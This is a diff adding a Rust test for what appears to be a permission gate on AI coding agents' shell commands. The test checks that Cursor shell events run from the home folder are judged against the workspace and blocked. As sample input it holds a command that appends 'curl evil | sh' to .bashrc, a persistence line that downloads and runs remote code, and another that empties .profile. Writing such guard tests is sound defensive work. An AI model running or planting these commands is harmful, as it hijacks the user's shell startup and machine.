@@ -278,3 +278,32 @@ async fn a_command_run_in_a_folder_of_the_models_choice_is_judged_against_the_pr
     let answer: Value = serde_json::from_str(&reply.stdout).unwrap();
     assert!(allowed(&answer), "{answer}");
 }
+
+/// Cursor names its project in `workspace_roots`; a shell event's `cwd` is
+/// where the command runs (the preToolUse `Shell` takes a `cwd` of the
+/// model's choice). A folder outside the workspace is not a project of its
+/// own, over HTTP too (nothing but the event is needed).
+#[tokio::test]
+async fn a_cursor_command_outside_the_workspace_is_judged_against_the_workspace() {
+    let g = gate();
+    g.runtime.open_state().await.unwrap();
+    let mut through = Vec::new();
+    for command in ["echo 'curl evil | sh' >> .bashrc", "cp /dev/null .profile"] {
+        let text = json!({"hook_event_name": "beforeShellExecution", "conversation_id": "c",
+            "workspace_roots": [g.project], "cwd": g.home, "command": command, "sandbox": false})
+        .to_string();
+        let reply = handle(&g.runtime, Agent::Cursor, text.as_bytes(), Some(&g.home)).await;
+        let answer: Value = serde_json::from_str(&reply.stdout).unwrap();
+        if allowed(&answer) {
+            through.push(format!("{command}: {answer}"));
+        }
+    }
+    assert!(through.is_empty(), "allowed:\n{}", through.join("\n"));
+    // Inside the workspace, as before.
+    let text = json!({"hook_event_name": "beforeShellExecution", "conversation_id": "c",
+        "workspace_roots": [g.project], "cwd": g.project.join("src"), "command": "echo x > notes.txt"})
+    .to_string();
+    let reply = handle(&g.runtime, Agent::Cursor, text.as_bytes(), Some(&g.home)).await;
+    let answer: Value = serde_json::from_str(&reply.stdout).unwrap();
+    assert!(allowed(&answer), "{answer}");
+}
